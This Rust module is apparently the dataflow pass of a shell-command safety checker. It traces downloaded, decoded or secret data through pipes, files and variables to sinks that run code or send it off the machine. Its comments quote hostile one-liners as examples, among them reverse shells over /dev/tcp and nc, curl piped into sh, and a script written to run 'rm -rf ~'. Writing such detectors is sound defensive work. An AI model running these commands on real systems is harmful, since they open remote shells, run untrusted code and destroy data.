//! One analysis of the whole line: what each simple command produces and
//! consumes, in execution order.
//!
//! - *Sources*: network fetchers and clients, decoders, secret reads,
//!   environment dumps, archives of the project or a home directory.
//! - *Carriers*: pipes, files written by redirection or `-o`/`-O`, `tee`,
//!   `dd of=`, file descriptors (`exec 3>`), copies and renames (`cp`, `mv`,
//!   `ln`, `install`, `rsync`), extraction of archives, and variables
//!   (`X=$(curl …)`).
//! - *Sinks*: anything that runs code (a shell or interpreter reading the
//!   carrier, `source`, running the file by path, `xargs sh -c`), and anything
//!   that sends data off the machine.
//!
//! Names are tracked as written (`mv a b; bash b`). A flow that cannot be
//! decided (a computed file name, files extracted from a downloaded archive)
//! is a problem, so the line is ambiguous rather than allowed.

use crate::Text;
use crate::action::{Effect, PathClass, Problem, SimpleCommand, Stdin};
use crate::paths::{classify, is_secret, needs_cleaning};
use crate::shell::Walker;
use crate::shell::bomb;
use crate::shell::generated;
use crate::shell::netshell;
use crate::shell::word::basename;
use fx::Map;
pub(crate) use roles::Roles;

mod carry;
mod fx;
mod io;
mod pipe;
mod roles;
mod script;
#[cfg(test)]
mod tests;
mod text;

pub(crate) use text::{ignores_stdin, init_hook};

pub(crate) use script::reads_script_from_stdin;
use script::script_arg;

/// What a stream or a file carries.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(crate) struct Taint {
    network: bool,
    decoded: bool,
    secret: bool,
    project: bool,
}

impl Taint {
    const NETWORK: Taint = Taint {
        network: true,
        decoded: false,
        secret: false,
        project: false,
    };

    fn or(self, o: Taint) -> Taint {
        Taint {
            network: self.network || o.network,
            decoded: self.decoded || o.decoded,
            secret: self.secret || o.secret,
            project: self.project || o.project,
        }
    }

    /// Runs as code, this is downloaded or decoded code.
    fn code(self) -> bool {
        self.network || self.decoded
    }

    fn source(self) -> &'static str {
        if self.network { "download" } else { "decode" }
    }
}

/// A variable assigned on the line.
#[derive(Debug, Clone, Default)]
pub(crate) struct Var {
    /// Its value when static; `None` when only known at run time.
    pub(crate) value: Option<String>,
    /// It holds downloaded or decoded data.
    pub(crate) remote: bool,
    /// It holds secret data, or the project's.
    data: Taint,
}

/// The dataflow state of one line, owned by the [`Walker`] for one parse.
#[derive(Debug, Default)]
pub(crate) struct Flow {
    /// Keyed by compact strings: most names fit inline, and a line that
    /// writes many files allocates no key for them.
    files: Map<Text, Taint>,
    /// A two-word Bloom filter of the keys of `files` ([`seen_bits`]): most
    /// words of a line name no file it wrote, and are turned away unhashed.
    seen: u128,
    /// How many of `files` carry downloaded or decoded data.
    code_files: usize,
    /// Files written into a directory of `PATH`, by name: what any of them
    /// carries (`installed`, without a scan of `files` per command).
    in_path: Map<String, Taint>,
    /// Open descriptors: the file they name (if any) and what they carry.
    fds: Map<u32, (Option<String>, Taint)>,
    /// Carried by files whose names are only known at run time.
    wild: Taint,
    /// Output of the command at each index of `Walker::out` (dense: every
    /// command has an entry once the pass reached it).
    out: Vec<Taint>,
    pub(crate) vars: Map<String, Var>,
    /// Inside a branch, loop or function body: assignments are not static.
    pub(crate) cond: usize,
    /// Static text written to files on the line (`echo 'rm -rf ~' > x.sh`).
    texts: Map<String, String>,
    /// What a `coproc` reads from and whether it is a shell reading code.
    coproc: Taint,
    coproc_shell: bool,
    /// What an output process substitution `>(…)` of the command being read
    /// receives.
    pub(crate) proc_feed: Option<Stdin>,
    /// What the substitutions and variables in the words being read carry;
    /// taken by the command (or assignment) that owns those words.
    pending: Taint,
    /// Functions defined so far: name, the programs they call, and whether
    /// they run them concurrently.
    pub(crate) funcs: Vec<(String, Vec<String>, bool)>,
    /// Directories the line cloned from a remote repository.
    cloned: Vec<String>,
    /// Git remotes the line adds (`git remote add x URL`).
    pub(super) remotes: Vec<String>,
    /// Where a `cd` on the line moved to (relative to where it started).
    cwd: Option<String>,
}

fn key(name: &str) -> String {
    key_ref(name).to_owned()
}

/// A file's name as the line's file table keys it: `./a/` is `a`.
#[inline]
fn key_ref(name: &str) -> &str {
    // Most names have nothing to trim: a first byte that is neither blank
    // nor `.`, a last that is neither blank nor `/` (both ASCII, so no
    // Unicode blank either). Every byte up to the space (the ASCII blanks
    // among them) counts as blank here: one compare, and the long way
    // gives the right key for the rare control byte.
    let blank = |b: u8| b <= b' ' || !b.is_ascii();
    if let (Some(&first), Some(&last)) = (name.as_bytes().first(), name.as_bytes().last())
        && !blank(first)
        && !blank(last)
        && first != b'.'
        && last != b'/'
    {
        return name;
    }
    trimmed_key(name)
}

/// [`key_ref`] the long way.
#[inline(never)]
fn trimmed_key(name: &str) -> &str {
    let mut k = name.trim();
    while let Some(rest) = k.strip_prefix("./") {
        k = rest;
    }
    k.trim_end_matches('/')
}

/// The two bits of [`Flow::seen`] a file key sets: one in the low word
/// from its length and last byte, one in the high word from its first byte
/// and length (names written on a line often share a length and an ending:
/// `a.sh`, `b.sh`).
#[inline]
fn seen_bits(k: &str) -> u128 {
    let b = k.as_bytes();
    let last = usize::from(b.last().copied().unwrap_or_default());
    let first = usize::from(b.first().copied().unwrap_or_default());
    let low = (k.len().wrapping_mul(7) ^ last) & 63;
    let high = (first.wrapping_mul(5) ^ k.len().wrapping_mul(3)) & 63;
    1 << low | 1 << (64 + high)
}

/// Directories of `PATH` a file written on the line may be run from by name.
const PATH_DIRS: &[&str] = &[
    "/usr/local/bin",
    "/usr/bin",
    "/bin",
    "/usr/sbin",
    "/sbin",
    "/usr/local/sbin",
    "~/bin",
    "~/.local/bin",
    "~/.cargo/bin",
    "/opt/bin",
];

const CLONED: &str = "it runs a file from a repository the line cloned from the network";

fn is_dynamic_text(t: &str) -> bool {
    t.bytes().any(|b| b == b'$' || b == b'`')
}

/// What follows the last `sep` in `s`, or all of `s` (`rsplit(sep).next()`
/// without a char searcher).
fn after_last(s: &str, sep: u8) -> &str {
    match s.bytes().rposition(|b| b == sep) {
        Some(i) => s.get(i + 1..).unwrap_or_default(),
        None => s,
    }
}

/// `s` has a `/` (a byte loop: the names are short).
fn has_slash(s: &str) -> bool {
    s.bytes().any(|b| b == b'/')
}

/// A name `classify(name, "", "")` can only call `Secret`, `Relative`,
/// `Parent` or `Unknown`: not empty, not starting with `/`, `~`, `.` or `*`
/// (the root, homes, the project and the parent are all spelled with one
/// of those first), and not `DIR/{}` (classified as DIR, whose class is
/// mapped).
fn plain_relative(name: &str) -> bool {
    let b = name.as_bytes();
    let mut end = b.len();
    while end > 1 && b.get(end - 1) == Some(&b'/') {
        end -= 1;
    }
    b.first()
        .is_some_and(|c| !matches!(c, b'/' | b'~' | b'.' | b'*'))
        && !b.get(..end).is_some_and(|p| p.ends_with(b"/{}"))
}

fn is_code_program(p: &str) -> bool {
    Roles::of(p).code()
}

impl Flow {
    /// What the file `name` carries, when the line wrote it. Inlined: most
    /// words are turned away by the filter, without a call.
    #[inline]
    fn file(&self, name: &str) -> Option<Taint> {
        if self.files.is_empty() {
            return None;
        }
        // Without a `cd` on the line there is no second spelling to try.
        if self.cwd.is_some() {
            return self.file_after_cd(name);
        }
        self.lookup(key_ref(name))
    }

    /// [`Flow::file`] on a line that changed directory.
    #[inline(never)]
    fn file_after_cd(&self, name: &str) -> Option<Taint> {
        if let Some(t) = self.here(name).and_then(|k| self.lookup(&k)) {
            return Some(t);
        }
        self.lookup(key_ref(name))
    }

    /// The entry of `files` under the key `k`.
    #[inline]
    fn lookup(&self, k: &str) -> Option<Taint> {
        let bits = seen_bits(k);
        if self.seen & bits != bits {
            return None;
        }
        self.get_file(k)
    }

    /// The hashed half of [`Flow::lookup`], out of line.
    #[inline(never)]
    fn get_file(&self, k: &str) -> Option<Taint> {
        self.files.get(k).copied()
    }

    /// `name` seen from where the line started, when a `cd` moved it:
    /// joined in a compact string (most fit inline, no allocation).
    #[inline]
    fn here(&self, name: &str) -> Option<Text> {
        let cwd = self.cwd.as_deref()?;
        if name.starts_with('/') || name.starts_with('~') {
            return None;
        }
        let mut joined = Text::with_capacity(cwd.len() + 1 + name.len());
        joined.push_str(cwd);
        joined.push('/');
        joined.push_str(name);
        // `key_ref` gives a part of `joined`: all of it, or a trimmed copy.
        let k = key_ref(&joined);
        Some(if k.len() == joined.len() {
            joined
        } else {
            Text::from(k)
        })
    }

    /// Whether `name` lies in a repository the line cloned.
    fn in_clone(&self, name: &str) -> bool {
        let under = |k: &str| {
            self.cloned.iter().any(|d| {
                k.strip_prefix(d.as_str())
                    .is_some_and(|r| r.starts_with('/'))
            })
        };
        under(key_ref(name)) || self.here(name).is_some_and(|k| under(&k))
    }

    /// `git clone URL [DIR]`: DIR holds code from the network.
    pub(super) fn clone_into(&mut self, dir: &str) {
        let k = self
            .here(dir)
            .map_or_else(|| key(dir), |k| String::from(k.as_str()));
        if !k.is_empty() {
            self.cloned.push(k);
        }
    }

    /// `cd DIR`: later relative names are inside DIR.
    pub(super) fn change_dir(&mut self, dir: &str) {
        self.cwd = match (dir, self.here(dir)) {
            ("" | "-" | "~", _) => None,
            (d, _) if d.split('/').any(|c| c == "..") => None,
            (_, Some(k)) => Some(String::from(k.as_str())),
            (d, None) if d.starts_with('/') || d.starts_with('~') || is_dynamic_text(d) => None,
            (d, None) => Some(key(d)),
        };
    }

    /// What reading the file `name` gives: written on the line, or its class.
    fn read(&self, name: &str) -> Taint {
        let mut t = self.file(name).unwrap_or_default();
        if name.starts_with("/dev/tcp/") || name.starts_with("/dev/udp/") {
            t.network = true;
        }
        if plain_relative(name) {
            // `classify` calls such a name `Secret` exactly when `is_secret`
            // does, and otherwise gives it a class read ignores.
            t.secret |= is_secret(name);
            return t;
        }
        let class = classify(name, "", "");
        // `classify` answers `Secret` for a secret path as written; only a
        // path it cleans first (`a/../x`, `a//x`) needs a second look.
        if class == PathClass::Secret
            || has_slash(name) && needs_cleaning(name) && is_secret(name)
            || name.starts_with("/proc/") && name.ends_with("/environ")
        {
            t.secret = true;
        }
        match class {
            PathClass::Home | PathClass::Root => t.secret = true,
            PathClass::Project => t.project = true,
            PathClass::InHome if name.starts_with("~/.") => t.project = true,
            _ => {}
        }
        t
    }

    fn write(&mut self, name: &str, t: Taint, append: bool) {
        // A computed name may be any file; it is also tracked as written,
        // so `curl -o "$f" …; sh "$f"` keeps the flow.
        if is_dynamic_text(name) {
            self.wild = self.wild.or(t);
        }
        let here = if self.cwd.is_some() {
            self.here(name)
        } else {
            None
        };
        let k = here.as_deref().unwrap_or_else(|| key_ref(name));
        // One lookup, and a key of its own only for a name not seen before.
        let (before, new) = match self.files.get_mut(k) {
            Some(slot) => {
                let before = *slot;
                *slot = if append { before.or(t) } else { t };
                (Some(before), *slot)
            }
            None => {
                self.seen |= seen_bits(k);
                self.files.insert(Text::from(k), t);
                (None, t)
            }
        };
        if let Some(at) = k.bytes().rposition(|b| b == b'/')
            && let (Some(dir), Some(name)) = (k.get(..at), k.get(at + 1..))
            && PATH_DIRS.contains(&dir)
        {
            let seen = self.in_path.entry(name.to_owned()).or_default();
            *seen = seen.or(new);
        }
        match (before.is_some_and(Taint::code), new.code()) {
            (false, true) => self.code_files += 1,
            (true, false) => self.code_files = self.code_files.saturating_sub(1),
            _ => {}
        }
    }

    /// A file written on this line into a directory of `PATH`, run by name.
    fn installed(&self, program: &str) -> Option<Taint> {
        if self.in_path.is_empty() {
            return None;
        }
        self.in_path.get(program).copied()
    }

    /// Records what the command at index `idx` of `Walker::out` prints.
    #[inline]
    fn set_out(&mut self, idx: usize, out: Taint) {
        if self.out.len() == idx {
            self.out.push(out);
            return;
        }
        if self.out.len() < idx {
            self.out.resize(idx + 1, Taint::default());
        }
        if let Some(slot) = self.out.get_mut(idx) {
            *slot = out;
        }
    }

    /// Whether the line wrote any file so far.
    fn has_files(&self) -> bool {
        !self.files.is_empty()
    }

    fn any_code(&self) -> bool {
        self.wild.code() || self.code_files > 0
    }

    fn fd(&self, n: &str) -> Option<Taint> {
        if n.contains("COPROC") {
            return Some(self.coproc);
        }
        let n: u32 = n.trim_start_matches('&').parse().ok()?;
        self.fds.get(&n).map(|(file, t)| match file {
            Some(f) => t.or(self.file(f).unwrap_or_default()),
            None => *t,
        })
    }
}

impl Walker {
    /// `curl … | xargs sh -c '{}'`: xargs hands downloaded text to a shell.
    pub(crate) fn xargs_feeds_code(&self, cmd: &SimpleCommand) -> bool {
        cmd.wrappers.iter().any(|w| w == "xargs") && self.input(cmd).code()
    }

    /// The whole-line pass for one normalised command, before it is recorded:
    /// adds flow effects to `cmd` and updates what files and descriptors carry.
    /// `first` is the program word as written (`./p`, not `p`).
    /// Returns the static text of a script file the command runs, to be
    /// parsed as commands in turn.
    pub(crate) fn flow_step(
        &mut self,
        cmd: &mut SimpleCommand,
        r: Roles,
        first: &str,
    ) -> Option<String> {
        if self.quiet(cmd, r, first) {
            // What the full pass does for such a command, without the
            // checks that cannot apply: the words' data is dropped, and
            // only what it prints is noted.
            let idx = self.out.len();
            self.flow.pending = Taint::default();
            let out = self.output(cmd, Taint::default(), r);
            self.flow.set_out(idx, out);
            return None;
        }
        let (fx, script_text) = self.flow_effects(cmd, r, first);
        for e in fx {
            if !cmd.effects.contains(&e) {
                cmd.effects.push(e);
            }
        }
        script_text
    }

    /// No part of the pass but what `cmd` prints applies: its roles run,
    /// send and carry nothing, it reads no input or redirection, and its
    /// program word can name no file or program the line made.
    #[inline]
    fn quiet(&self, cmd: &SimpleCommand, r: Roles, first: &str) -> bool {
        #[cfg(test)]
        if tests::LONG_WAY.get() {
            return false;
        }
        r.flow_quiet()
            && cmd.stdin.is_none()
            && cmd.redirects.is_empty()
            && self.flow.in_path.is_empty()
            && !has_slash(first)
            && !(self.flow.any_code() && is_dynamic_text(first))
    }

    /// [`Walker::flow_step`] but for adding the effects to the command.
    /// `r` are the roles of `cmd.program`.
    fn flow_effects(
        &mut self,
        cmd: &SimpleCommand,
        r: Roles,
        first: &str,
    ) -> (Vec<Effect>, Option<String>) {
        let idx = self.out.len();
        let in_words = std::mem::take(&mut self.flow.pending);
        let p = cmd.program.as_str();
        let mut input = self.input(cmd);
        if matches!(cmd.stdin, Some(Stdin::Here { .. })) {
            // `bash <<< "$(curl …)"`: the here-string carries the download.
            input.network |= in_words.network;
            input.decoded |= in_words.decoded;
        }
        let mut fx = Vec::new();

        // Sinks that run code.
        if r.code() || r.source() {
            self.runs_script(cmd, p, input, &mut fx);
        } else if has_slash(first) && !is_dynamic_text(first) {
            match self.flow.file(first) {
                Some(t) if t.code() => fx.push(Effect::RunsRemoteCode {
                    source: t.source().into(),
                }),
                Some(_) => {}
                None if self.flow.wild.code()
                    && !first.starts_with("/usr/")
                    && !first.starts_with("/bin/") =>
                {
                    self.unknown(cmd, "it runs a file that may come from the download");
                }
                None if self.flow.in_clone(first) => self.unknown(cmd, CLONED),
                None => {}
            }
        } else if let Some(t) = self.flow.installed(p).filter(|t| t.code()) {
            fx.push(Effect::RunsRemoteCode {
                source: t.source().into(),
            });
        } else if self.flow.any_code() && is_dynamic_text(first) {
            self.unknown(cmd, "it runs a program named only at run time");
        }
        // `dpkg -i x.deb`, `java -jar x.jar`, `pip install x.whl` of a download.
        if r.installer()
            && !script::installer_only_inspects(p, &cmd.args)
            && let Some(t) = cmd
                .args
                .iter()
                .filter_map(|a| self.flow.file(&a.text))
                .find(|t| t.code())
        {
            fx.push(Effect::RunsRemoteCode {
                source: t.source().into(),
            });
        }
        if r.inline_code() && netshell::inline_exfiltration(cmd) {
            fx.push(Effect::Egress { secret: true });
        }
        if r.inline_code() && bomb::inline_fork_bomb(cmd) {
            fx.push(Effect::ForkBomb);
        }

        let out = self.output(cmd, input, r);
        // `printf -v VAR …`: only a first `-v` names a variable.
        if p == "printf"
            && cmd.args.first().is_some_and(|a| a.text == "-v")
            && let Some((Some(var), text)) = generated::printf(&cmd.args)
        {
            let stat = self.flow.cond == 0 && !cmd.args.iter().any(|a| a.dynamic);
            let remote = cmd.args.iter().any(|a| a.remote);
            self.flow.vars.insert(
                var,
                Var {
                    value: stat.then_some(text),
                    remote,
                    data: in_words,
                },
            );
        }

        // Network shells.
        if r.net_shell() && netshell::serves_shell(cmd)
            || r.net_client() && self.fed_by_shell(cmd)
            || r.code()
                && self.net_redirect(cmd)
                && (reads_script_from_stdin(cmd) || cmd.args.iter().any(|a| a.text == "-i"))
        {
            fx.push(Effect::NetworkShell);
        }

        // Sinks that send data off the machine.
        let mut sent = self.sent(cmd, input, out, r);
        if r.word_sender() {
            sent = sent.or(in_words);
        }
        if p == "git"
            && !self.flow.remotes.is_empty()
            && carry::pushes_to(&cmd.args, &self.flow.remotes)
        {
            // A new repository's first push looks the same: ask, do not deny.
            self.unknown(
                cmd,
                "it pushes the project to a remote the line itself adds",
            );
        }
        if sent.secret {
            fx.push(Effect::Egress { secret: true });
        } else if sent.project {
            fx.push(Effect::Upload {
                what: "project".into(),
            });
        }

        if p == "coproc" {
            self.coproc(cmd);
        }
        if self.flow.coproc_shell
            && out.code()
            && cmd
                .redirects
                .iter()
                .any(|r| r.op.contains('>') && r.target.contains("COPROC"))
        {
            fx.push(Effect::RunsRemoteCode {
                source: out.source().into(),
            });
        }
        // `read -r x < <(curl …)`: the variable holds what was read.
        if p == "read" {
            // `read x < <(curl …)`: the substitution's data is in the words.
            let input = input.or(in_words);
            for a in cmd.args.iter().filter(|a| !a.text.starts_with('-')) {
                self.flow.vars.insert(
                    a.text.to_string(),
                    Var {
                        value: None,
                        remote: input.code(),
                        data: input,
                    },
                );
            }
        }
        let script_text = self.generated_script(cmd, p, r);
        self.keep_text(cmd, p);

        self.carry(cmd, input, out, r);
        self.flow.set_out(idx, out);
        (fx, script_text)
    }

    /// A shell, interpreter or `source` runs its script: downloaded or
    /// decoded code, a file that may be, or text a filter rewrote.
    fn runs_script(&mut self, cmd: &SimpleCommand, p: &str, input: Taint, fx: &mut Vec<Effect>) {
        match script_arg(p, &cmd.args) {
            Some(script) => {
                let dynamic = script.dynamic || is_dynamic_text(&script.text);
                match self.flow.file(&script.text) {
                    Some(t) if t.code() => fx.push(Effect::RunsRemoteCode {
                        source: t.source().into(),
                    }),
                    _ if dynamic && self.flow.any_code() => {
                        self.unknown(cmd, "it runs a file whose name is only known at run time");
                    }
                    None if self.flow.wild.code() => {
                        self.unknown(cmd, "it runs a file that may come from the download");
                    }
                    None if self.flow.in_clone(&script.text) => {
                        self.unknown(cmd, CLONED);
                    }
                    _ => {}
                }
            }
            None => {
                let xargs = cmd.open_args && cmd.wrappers.iter().any(|w| w == "xargs");
                if input.code() && (reads_script_from_stdin(cmd) || xargs) {
                    fx.push(Effect::RunsRemoteCode {
                        source: input.source().into(),
                    });
                } else if (reads_script_from_stdin(cmd) || xargs)
                    && matches!(
                        cmd.stdin,
                        Some(Stdin::Pipe {
                            transformed: true,
                            ..
                        })
                    )
                {
                    self.unknown(
                        cmd,
                        "it runs text a filter rewrote (`tr`, `sed`, `rev`, …): the code is only known at run time",
                    );
                }
            }
        }
    }

    /// `bash -i >& /dev/tcp/h/1`: a redirection to the network, or to a
    /// descriptor that carries it.
    fn net_redirect(&self, cmd: &SimpleCommand) -> bool {
        cmd.redirects.iter().any(|r| {
            r.target.starts_with("/dev/tcp/")
                || r.target.starts_with("/dev/udp/")
                || r.op.contains('&') && self.flow.fd(&r.target).is_some_and(|t| t.network)
        })
    }

    /// `bash -i 2>&1 | nc h 1`: a network client fed by a shell reading its
    /// script from standard input.
    fn fed_by_shell(&self, cmd: &SimpleCommand) -> bool {
        matches!(&cmd.stdin, Some(Stdin::Pipe { from, .. })
            if is_code_program(from)
                && self.out.iter().rev().find(|c| c.program == from)
                    .is_some_and(reads_script_from_stdin))
    }

    /// `coproc nc h 1`, `coproc bash`: its descriptors carry the network,
    /// or feed a shell.
    fn coproc(&mut self, cmd: &SimpleCommand) {
        if let Some(inner) = cmd
            .args
            .iter()
            .map(|a| basename(&a.text))
            .find(|a| !a.is_empty())
        {
            let r = Roles::of(inner);
            if r.net_client() || r.fetcher() {
                self.flow.coproc = Taint::NETWORK;
            }
            let only = cmd.args.iter().skip(1).all(|a| a.text.starts_with('-'));
            self.flow.coproc_shell |= r.code() && only;
        }
    }

    fn unknown(&mut self, cmd: &SimpleCommand, why: &str) {
        let mut line = cmd.line();
        if line.len() > 60 {
            line = line.chars().take(60).collect::<String>() + "…";
        }
        self.problem(Problem::UnknownFlow(format!("`{line}`: {why}")));
    }
}
